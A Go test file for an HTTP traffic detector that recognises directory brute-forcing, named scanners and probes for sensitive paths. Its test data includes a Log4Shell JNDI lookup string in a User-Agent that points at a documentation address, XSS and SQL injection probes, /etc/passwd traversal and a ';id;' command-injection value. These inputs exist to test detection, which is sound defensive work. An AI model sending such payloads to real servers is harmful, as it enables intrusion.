package web

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/reconwatch/reconwatch/analyzers"
	"github.com/reconwatch/reconwatch/capture/packet"
)

const (
	ms     = int64(1e6)
	sec    = 1000 * ms
	server = "10.0.0.80"
	bad    = "203.0.113.66"
)

func addr(s string) packet.Addr { return packet.AddrFrom(netip.MustParseAddr(s)) }

func home(a *packet.Addr) bool { return a.Is4() && a[12] == 10 }

// talk plays HTTP to a Detector.
type talk struct {
	t        *testing.T
	d        *Detector
	now      int64
	frame    uint64
	findings []analyzers.Finding
	ports    map[string]uint16
	seqs     map[uint16][2]uint32
	agent    string
	referer  string
	via      string
	host     string
	oneWay   bool
	length   int // of the body that an answer names, less 1; 0 for none
	echoes   int // how often a body repeats the path
	chunked  bool
}

func newTalk(t *testing.T, change func(*Config)) *talk {
	t.Helper()
	c := DefaultConfig()
	if change != nil {
		change(&c)
	}
	return &talk{
		t: t, d: New(Options{Config: c, Home: home, Seed: 7, Clients: 1 << 10}), now: 1e18, host: "www.example.com",
		ports: map[string]uint16{}, seqs: map[uint16][2]uint32{}, agent: "curl/8.5.0",
	}
}

func (k *talk) event(from, to string, app analyzers.App, answer bool, seq, ack uint32, data string) {
	e := analyzers.Event{
		Kind: analyzers.Message, App: app, FromTarget: answer, Time: k.now, Frame: k.frame, Source: addr(from), Target: addr(to),
		SourcePort: k.ports[from], TargetPort: 80, Proto: packet.ProtoTCP, Seq: seq, Window: uint16(ack), Extra: uint16(len(data)), DataLen: uint16(min(len(data), 512)),
	}
	k.frame++
	b := analyzers.Batch{Events: []analyzers.Event{e}, Bytes: []byte(data)}
	k.d.Consume(&b, &k.findings)
}

// ask sends a request and, unless code is 0, its answer, on one connection a client.
func (k *talk) ask(from, to, path string, code int) {
	if k.ports[from] == 0 {
		k.ports[from] = uint16(40000 + len(k.ports))
	}
	port := k.ports[from]
	s := k.seqs[port]
	head := "GET " + path + " HTTP/1.1\r\nHost: " + k.host + "\r\nUser-Agent: " + k.agent + "\r\n"
	if k.referer != "" {
		head += "Referer: " + k.referer + "\r\n"
	}
	if k.via != "" {
		head += "X-Forwarded-For: " + k.via + "\r\n"
	}
	head += "\r\n"
	k.event(from, to, analyzers.AppHTTPRequest, false, s[0], s[1], head)
	s[0] += uint32(len(head))
	if code != 0 && !k.oneWay {
		k.now += ms
		answer := fmt.Sprintf("HTTP/1.1 %d X\r\n\r\n", code)
		if k.length > 0 {
			n := k.length - 1 + k.echoes*len(path)
			if answer = fmt.Sprintf("HTTP/1.1 %d X\r\nContent-Length: %d\r\n\r\n", code, n); k.chunked {
				answer = fmt.Sprintf("HTTP/1.1 %d X\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n", code, n)
			}
		}
		k.event(from, to, analyzers.AppHTTPResponse, true, s[1], s[0], answer)
		s[1] += uint32(len(answer)) + 5000
	}
	k.seqs[port] = s
}

// done ends the capture and lists what was opened.
func (k *talk) done() []string {
	k.d.Finish(&k.findings)
	var out []string
	for i := range k.findings {
		if f := &k.findings[i]; f.Stage == analyzers.Opened {
			out = append(out, f.Kind.String()+"@"+f.Source.String())
		}
	}
	return out
}

// custom are words of a list that nobody has published, not in order.
func custom(n int) []string {
	heads := strings.Fields("alpha bridge copper delta ember falcon garnet hollow indigo jasper kestrel lumen maple nectar onyx pepper quartz raven silver timber")
	tails := strings.Fields("gate house park store room point works field ridge stone")
	var out []string
	for i := range heads {
		for j := range tails {
			out = append(out, "/"+heads[i]+tails[j])
		}
	}
	rand.New(rand.NewPCG(1, 2)).Shuffle(len(out), func(i, j int) { out[i], out[j] = out[j], out[i] })
	return out[:n]
}

var common = strings.Fields("/admin /backup /cgi-bin /config /test /login /uploads /images /api /dev /old /private /secret /db /phpmyadmin /include /js /css /scripts /tmp " +
	"/users /web /webmail /wp-admin /xmlrpc /zips /panel /portal /mysql /logs /includes /install /setup /sql /staff /stage /stats /temp /tools /upload")

func sorted(n int) []string {
	var out []string
	for i := range n {
		out = append(out, fmt.Sprintf("/%c%cnd%cr", 'a'+i/26%26, 'a'+i%26, 'a'+i%7))
	}
	return out
}

func TestWordLists(t *testing.T) {
	fast, slow := 20*ms, 20*sec
	for name, c := range map[string]struct {
		agent string
		first []string
		paths []string
		pace  int64
		code  int // for what does not exist
		hits  int // one of so many exists, 0 for none
		way   bool
	}{
		"gobuster":                  {agent: "gobuster/3.6", first: []string{"/", "/7f2b1c1e-98aa-4b2d-8b6e-0f1e2d3c4b5a"}, paths: custom(60), pace: fast, code: 404},
		"gobuster, other name":      {agent: "Mozilla/5.0", first: []string{"/7f2b1c1e-98aa-4b2d-8b6e-0f1e2d3c4b5a"}, paths: custom(60), pace: fast, code: 404},
		"dirb":                      {agent: "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)", first: []string{"/randomfile1", "/frand2"}, paths: sorted(60), pace: fast, code: 404},
		"curl, common words, slow":  {agent: "curl/8", paths: common, pace: slow, code: 404},
		"in order":                  {agent: "x", paths: sorted(60), pace: sec, code: 404},
		"unknown words, fast":       {agent: "x", paths: custom(150), pace: fast, code: 404},
		"server asks for passwords": {agent: "x", paths: common, pace: fast, code: 401},
		"all redirected, random":    {agent: "x", first: []string{"/7f2b1c1e-98aa-4b2d-8b6e-0f1e2d3c4b5a"}, paths: common, pace: fast, code: 301},
		"many exist":                {agent: "gobuster/3.6", paths: common, pace: fast, code: 404, hits: 4},
		"one way":                   {agent: "ffuf", first: []string{"/Xq9bV2kLr8TzPw4N"}, paths: append(sorted(40), common...), pace: fast, code: 404, way: true},
	} {
		t.Run(name, func(t *testing.T) {
			k := newTalk(t, nil)
			k.agent, k.oneWay = c.agent, c.way
			for _, p := range c.first {
				k.ask(bad, server, p, c.code)
			}
			for i, p := range c.paths {
				code := c.code
				if c.hits > 0 && i%c.hits == 0 {
					code = 200
				}
				k.ask(bad, server, p, code)
				k.now += c.pace
			}
			if diff := cmp.Diff([]string{"web_path_probe@" + bad}, k.done()); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestInnocents(t *testing.T) {
	ordinaryUse := map[string]func(*talk){
		"browser": func(k *talk) {
			k.agent, k.referer = "Mozilla/5.0", "http://www.example.com/"
			for i := range 200 {
				k.ask(bad, server, fmt.Sprintf("/assets/img%d/logo.png", i%9), 200)
				k.ask(bad, server, "/"+strings.TrimPrefix(custom(200)[i], "/")+".css", 200)
			}
			for _, p := range []string{"/favicon.ico", "/apple-touch-icon.png", "/robots.txt", "/.well-known/security.txt", "/.well-known/change-password"} {
				k.ask(bad, server, p, 404)
			}
		},
		"wget on a site full of dead links": func(k *talk) {
			k.agent = "Wget/1.21"
			k.ask(bad, server, "/", 200)
			k.referer = "http://www.example.com/"
			k.ask(bad, server, "/robots.txt", 404)
			for i, p := range custom(200) {
				code := 404
				if i%4 == 0 {
					code = 200
				}
				k.ask(bad, server, p+".html", code)
				k.now += 5 * ms
			}
		},
		"crawler that names no pages": func(k *talk) {
			k.agent = "examplebot/1.0"
			k.ask(bad, server, "/robots.txt", 200)
			for i := range 300 {
				code := 404
				if i%3 == 0 {
					code = 200
				}
				k.ask(bad, server, fmt.Sprintf("/products/%d.html", 1000+i), code)
				k.now += 100 * ms
			}
		},
		"old pages looked at again": func(k *talk) {
			k.agent = "Googlebot/2.1"
			for i, p := range custom(200) {
				k.ask(bad, server, fmt.Sprintf("/%d%s/index.html", i%40, p), 404)
				k.now += 3 * sec
			}
		},
		"monitor of what is down": func(k *talk) {
			for range 2000 {
				k.ask(bad, server, "/login", 503)
				k.ask(bad, server, "/api/v1/state", 503)
				k.now += 30 * sec
			}
		},
		"tiles": func(k *talk) {
			for i := range 600 {
				k.ask(bad, server, fmt.Sprintf("/tiles/14/%d/%d.png", 8000+i/20, 5000+i%20), 404)
				k.now += 10 * ms
			}
		},
		"short links": func(k *talk) {
			r := rand.New(rand.NewPCG(3, 4))
			for range 200 {
				b := make([]byte, 12)
				for i := range b {
					b[i] = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"[r.IntN(56)]
				}
				k.ask(bad, server, "/"+string(b), 301)
				k.now += 50 * ms
			}
		},
		"file manager": func(k *talk) {
			for _, p := range custom(100) {
				k.event(bad, server, analyzers.AppHTTPRequest, false, k.seqs[1][0], 0, "PROPFIND /._"+p[1:]+" HTTP/1.1\r\nHost: x\r\n\r\n")
				k.seqs[1] = [2]uint32{k.seqs[1][0] + 100, 0}
				k.event(bad, server, analyzers.AppHTTPResponse, true, 0, 0, "HTTP/1.1 404 X\r\n\r\n")
			}
		},
		"clone of a repository": func(k *talk) {
			k.agent = "git/2.39.2"
			for _, p := range []string{"/.git/info/refs", "/.git/HEAD", "/.git/config"} {
				k.ask(bad, server, p, 200)
			}
		},
		"administrator": func(k *talk) {
			for _, p := range []string{"/server-status", "/phpmyadmin/", "/wp-login.php", "/manager/html", "/actuator/health"} {
				k.ask("10.0.0.9", server, p, 200)
			}
		},
		"search for an article": func(k *talk) {
			k.ask(bad, server, "/search?q=%3Cscript%3E+tag", 200)
			k.ask(bad, server, "/search?q=union+select+explained", 200)
			k.ask(bad, server, "/search?q=what+is+..%2F", 200)
		},
		"old site behind a redirect": func(k *talk) {
			k.agent = "examplebot/1.0"
			for _, p := range custom(200) {
				k.ask(bad, server, p, 301)
				k.now += 30 * ms
			}
		},
	}
	for name, do := range ordinaryUse {
		t.Run(name, func(t *testing.T) {
			k := newTalk(t, nil)
			do(k)
			if got := k.done(); len(got) > 0 {
				t.Errorf("accused %v: %s", got, k.findings[0].Detail)
			}
		})
	}
}

func TestSensitivePaths(t *testing.T) {
	for name, c := range map[string]struct {
		paths  []string
		code   int
		detail string // empty: nothing is told
	}{
		"given away":                 {[]string{"/.git/HEAD"}, 200, "one path of www.example.com; answered: /.git/HEAD (200: source code with its history)"},
		"not there":                  {[]string{"/.ENV"}, 404, "one path of www.example.com; none of them was given away"},
		"no answer":                  {[]string{"/x/../../etc/passwd"}, 0, "one path of www.example.com"},
		"round of log-ins":           {[]string{"/phpmyadmin/", "/manager/html", "/solr/admin/"}, 404, "one path of www.example.com; none of them was given away"},
		"the index of a repository":  {[]string{"/.git/index"}, 404, "one path of www.example.com; none of them was given away"},
		"panels, all of them there":  {strings.Fields("/phpmyadmin/ /adminer.php /manager/html /jmx-console/ /owa/auth /remote/login"), 200, "one path of www.example.com; answered: /remote/login (200: the log-in page of a VPN)"},
		"panels, as a site has them": {strings.Fields("/phpmyadmin/ /wp-login.php /xmlrpc.php /cgi-bin/a /wp-json/wp/v2/users"), 200, ""},
		"one log-in":                 {[]string{"/phpmyadmin/", "/phpmyadmin/index.php"}, 404, ""},
		"ours":                       {[]string{"/hidden/a"}, 403, "one path of www.example.com; answered: /hidden/a (403)"},
		"beside ours":                {[]string{"/hiddenness"}, 403, ""},
	} {
		t.Run(name, func(t *testing.T) {
			k := newTalk(t, func(c *Config) { c.NonPublic = []string{"/hidden"} })
			for _, p := range c.paths {
				k.ask(bad, server, p, c.code)
			}
			k.done()
			got := ""
			for i := range k.findings {
				if k.findings[i].Stage == analyzers.Opened {
					got = k.findings[i].Detail
				}
			}
			if got != c.detail {
				t.Errorf("told %q, want %q", got, c.detail)
			}
		})
	}
}

// One page of administrators, looked for at one server after the other.
func TestPagesOfAdministrators(t *testing.T) {
	for name, c := range map[string]struct {
		from, path string
		servers    int
		code       int
		want       int
	}{
		"not there":            {bad, "/phpmyadmin/index.php", 5, 404, 1},
		"at four":              {bad, "/phpmyadmin/index.php", 4, 404, 0},
		"there":                {bad, "/wp-login.php", 20, 200, 0},
		"by one of us":         {"10.0.9.9", "/phpmyadmin/index.php", 20, 404, 0},
		"of monitors":          {bad, "/server-status", 20, 404, 0},
		"that crawlers get to": {bad, "/contact", 20, 404, 0},
	} {
		t.Run(name, func(t *testing.T) {
			k := newTalk(t, nil)
			for i := range c.servers {
				delete(k.ports, c.from)
				k.ask(c.from, fmt.Sprintf("10.0.1.%d", i+1), c.path, c.code)
				k.now += sec
			}
			if got := k.done(); len(got) != c.want {
				t.Errorf("told %v, want %d", got, c.want)
			}
		})
	}
}

func TestScanners(t *testing.T) {
	for name, c := range map[string]struct {
		agent string
		paths []string
		want  []string
	}{
		"named":                {"Mozilla/5.00 (Nikto/2.5.0)", []string{"/"}, []string{"web_scanner@" + bad}},
		"lists, of parameters": {"Fuzz Faster U Fool v1.1.0", spread("/?", "=1"), []string{"web_scanner@" + bad}},
		"lists, a few":         {"gobuster/3.6", []string{"/a", "/b"}, nil},
		"in a field":           {"${jndi:ldap://203.0.113.9:1389/a}", []string{"/a", "/b", "/c", "/d"}, []string{"web_scanner@" + bad}},
		"in a field, once":     {"${jndi:ldap://203.0.113.9:1389/a}", []string{"/"}, nil},
		"filter":               {"Mozilla/5.0", []string{"/?a=<script>alert(1)</script>", "/?a=UNION%20SELECT%20ALL", "/?a=..%2f..%2fetc%2fpasswd"}, []string{"firewall_probe@" + bad}},
		"attacks": {
			"Mozilla/5.0",
			[]string{"/a?x=<script>alert(1)</script>", "/b?id=1+UNION+SELECT+2", "/c?x=%252e%252e%252f%252e%252e%252f", "/d?x=;id;"},
			[]string{"web_scanner@" + bad},
		},
	} {
		t.Run(name, func(t *testing.T) {
			k := newTalk(t, nil)
			k.agent = c.agent
			for _, p := range c.paths {
				k.ask(bad, server, p, 404)
			}
			if diff := cmp.Diff(c.want, k.done()); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// Neighbours in one IPv6 network are judged and named each by itself.
func TestNeighbours(t *testing.T) {
	k := newTalk(t, nil)
	var want []string
	for i := range 3 {
		from := fmt.Sprintf("2001:db8::%d", i+1)
		k.ask(from, server, "/.git/HEAD", 404)
		k.now += sec
		want = append(want, "web_path_probe@"+from)
	}
	if diff := cmp.Diff(want, k.done()); diff != "" {
		t.Error(diff)
	}
}

// A proxy of ours is not accused of what it forwards.
func TestForwarded(t *testing.T) {
	k := newTalk(t, nil)
	k.via = "192.0.2.1, " + bad
	k.ask("10.0.0.5", server, "/.git/config", 200)
	if diff := cmp.Diff([]string{"web_path_probe@" + bad}, k.done()); diff != "" {
		t.Error(diff)
	}
	if !strings.Contains(k.findings[0].Detail, "forwarded by 10.0.0.5") || k.findings[0].Direction != analyzers.Inbound {
		t.Errorf("%v: %s", k.findings[0].Direction, k.findings[0].Detail)
	}
}

// An answer after a gap is nobody's.
func TestPairing(t *testing.T) {
	var x exchange
	for i := range waiting + 2 {
		x.push(&ask{path: uint32(i), ack: uint16(10 * (i + 1))})
	}
	if x.find(5) >= 0 || x.find(10) >= 0 {
		t.Error("an answer that nobody waits for was taken")
	}
	var a ask
	if i := x.find(50); i < 0 {
		t.Error("no request for an answer")
	} else if x.pop(i, 0, false, &a); a.path != 4 || x.count != waiting-3 {
		t.Errorf("got request %d, %d left", a.path, x.count)
	}
	if !x.again(100) && (x.again(100) && x.again(90) && !x.again(101)) {
		return
	}
	t.Error("repeated segments")
}

// Several requests in one segment are all read, and their answers go to them in order, as long as these say where they end.
func TestPipelined(t *testing.T) {
	request := func(path string) string { return "GET " + path + " HTTP/1.1\r\nHost: h\r\n\r\n" }
	answer := func(code, size int) string {
		return fmt.Sprintf("HTTP/1.1 %d X\r\nContent-Length: %d\r\n\r\n%s", code, size, strings.Repeat("x", size))
	}
	const open = "HTTP/1.1 200 X\r\n\r\n" // until the connection ends
	for name, c := range map[string]struct {
		answers []string // segments
		want    string
	}{
		"one segment":           {[]string{answer(404, 0) + answer(200, 9) + answer(404, 3) + answer(403, 1)}, "b (200), d (403)"},
		"a segment each":        {[]string{answer(200, 0), answer(404, 2), answer(404, 1000), answer(401, 7)}, "a (200), d (401)"},
		"after a long one":      {[]string{answer(200, 2000), answer(404, 5) + answer(301, 0)}, "a (200), c (301)"},
		"a gap":                 {[]string{answer(404, 0), "", answer(200, 9)}, ""},
		"unknown length":        {[]string{answer(200, 1), open, answer(200, 9)}, "a (200), b (200)"},
		"continued":             {[]string{"HTTP/1.1 100 X\r\n\r\n" + answer(200, 1), answer(404, 2), answer(200, 3)}, "a (200), c (200)"},
		"the first comes twice": {[]string{open, open}, "a (200)"},
	} {
		t.Run(name, func(t *testing.T) {
			k := newTalk(t, func(c *Config) { c.NonPublic = []string{"/hidden"} })
			requests := request("/hidden/a") + request("/hidden/b") + request("/hidden/c") + request("/hidden/d")
			k.event(bad, server, analyzers.AppHTTPRequest, false, 1000, 5000, requests)
			seq := uint32(5000)
			for _, a := range c.answers {
				if a == "" {
					seq += 100
					continue
				}
				k.event(bad, server, analyzers.AppHTTPResponse, true, seq, 1000, a[:min(len(a), 512)])
				if a != open {
					seq += uint32(len(a))
				}
			}
			k.done()
			got := k.findings[len(k.findings)-1]
			_, list, _ := strings.Cut(got.Detail, "answered: ")
			if list = strings.ReplaceAll(list, "/hidden/", ""); list != c.want || got.Probes != 4 {
				t.Errorf("%d requests, got %q, want %q", got.Probes, list, c.want)
			}
		})
	}
}

// What lies beyond the bytes that an event carries is counted.
func TestPipelinedBeyond(t *testing.T) {
	k := newTalk(t, nil)
	all := strings.Repeat("GET /a HTTP/1.1\r\nHost: h\r\n\r\n", 40)
	e := analyzers.Event{
		Kind: analyzers.Message, App: analyzers.AppHTTPRequest, Time: k.now, Source: addr(bad), Target: addr(server),
		TargetPort: 80, Seq: 1, Extra: uint16(len(all)), DataLen: 512,
	}
	k.d.Consume(&analyzers.Batch{Events: []analyzers.Event{e}, Bytes: []byte(all[:512])}, &k.findings)
	if s := k.d.Stats(); s.Cut != 1 || s.Requests != 512/28 {
		t.Errorf("%d requests, %d cut", s.Requests, s.Cut)
	}
}

func TestNames(t *testing.T) {
	for path, want := range map[string]name{
		"/": ordinary, "/robots.txt": ordinary | robots, "/favicon.ico": ordinary, "/.well-known/acme-challenge/abc": ordinary, "/status/of/things": 0,
		"/admin": listed, "/Admin/": listed, "/x/login.php": listed, "/.git/HEAD": 0, "/.htpasswd": listed,
		"/7f2b1c1e-98aa-4b2d-8b6e-0f1e2d3c4b5a": random, "/randomfile1": random, "/Xq9bV2kLr8TzPw4N": random, "/xkcdqrtplmnb": random,
		"/main-Xq9bV2kLr8Tz.js": structured | part, "/js/login.js": part, "/a/b/c/admin.xyz": part, "/a/b/c/admin.php": listed, "/config.json": listed, "/item12345": structured, "/page-7": structured, "/deadbeefcafe": structured,
		"/about-us-and-more": 0, "/contactform": 0, "/internationalization": 0,
	} {
		if got := classify([]byte(path), shapeOf([]byte(path))); got != want {
			t.Errorf("%s: %b, want %b", path, got, want)
		}
	}
}

func FuzzRequest(f *testing.F) {
	f.Add("GET /%2e%2e/a+b HTTP/1.1\r\nUser-Agent: Nikto\r\nX-Forwarded-For: a\r\n\r\n", "HTTP/1.1 200 OK")
	f.Fuzz(func(t *testing.T, request, answer string) {
		k := newTalk(t, func(c *Config) { c.NonPublic = []string{"/"} })
		k.event("10.0.0.1", server, analyzers.AppHTTPRequest, false, 1, 1, request)
		k.event("10.0.0.1", server, analyzers.AppHTTPResponse, true, 1, 1, answer)
		k.done()
	})
}

func TestNoAllocation(t *testing.T) {
	k := newTalk(t, nil)
	data := []byte("GET /a/b?c=%20d HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0\r\n\r\n")
	answer := []byte("HTTP/1.1 200 OK\r\n")
	e := analyzers.Event{Kind: analyzers.Message, App: analyzers.AppHTTPRequest, Time: 1, Source: addr(bad), Target: addr(server), DataLen: uint16(len(data))}
	b := analyzers.Batch{Events: []analyzers.Event{e}, Bytes: data}
	back := e
	back.App, back.FromTarget, back.DataLen = analyzers.AppHTTPResponse, true, uint16(len(answer))
	c := analyzers.Batch{Events: []analyzers.Event{back}, Bytes: answer}
	out := make([]analyzers.Finding, 0, 4)
	if n := testing.AllocsPerRun(1000, func() {
		b.Events[0].Time++
		b.Events[0].Seq += 70
		k.d.Consume(&b, &out)
		k.d.Consume(&c, &out)
	}); n != 0 {
		t.Errorf("%v allocations", n)
	}
}

func BenchmarkRequest(b *testing.B) {
	c := DefaultConfig()
	d := New(Options{Config: c, Home: home, Seed: 7, Clients: 1 << 12})
	data := []byte("GET /a/b?c=%20d&e=f+g&h=1234567890abcdef HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\nAccept: */*\r\n\r\n")
	e := analyzers.Event{Kind: analyzers.Message, App: analyzers.AppHTTPRequest, Source: addr(bad), Target: addr(server), DataLen: uint16(len(data))}
	batch := analyzers.Batch{Events: []analyzers.Event{e}, Bytes: data}
	var out []analyzers.Finding
	b.ReportAllocs()
	for b.Loop() {
		batch.Events[0].Time++
		batch.Events[0].Seq += 200
		batch.Events[0].SourcePort++
		d.Consume(&batch, &out)
	}
}
